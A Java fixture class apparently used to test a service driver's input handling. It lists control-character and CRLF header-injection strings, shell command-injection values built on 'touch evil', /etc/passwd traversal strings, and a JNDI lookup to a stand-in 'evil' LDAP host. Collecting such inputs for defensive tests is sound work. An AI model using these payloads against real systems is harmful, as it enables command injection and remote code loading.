package dev.fettle.driver.spi;

import java.util.List;

/** Values that people have used to break into such services. */
public final class Hostile {
    /** No text of a node may hold these; each must be refused. */
    public static final List<String> CONTROLS = List.of(
            "evil\nline",
            "evil\r\nX-Injected: yes",
            "evil\u0000rest",
            "\u0007bell",
            "evil\u0085next",
            "evil\u2028separator",
            "evil\u001b[31mred");

    /** May be legal in a password; must never do harm. */
    public static final List<String> METACHARACTERS = List.of(
            "$(touch evil)",
            "`touch evil`",
            "; touch evil",
            "| touch evil",
            "&& touch evil",
            "'; touch evil; '",
            "\"; touch evil; \"",
            "--evil-option",
            "-f/etc/passwd",
            "../../etc/passwd",
            "%0d%0aX: y",
            "${jndi:ldap://evil}",
            "\\");

    private Hostile() {}
}
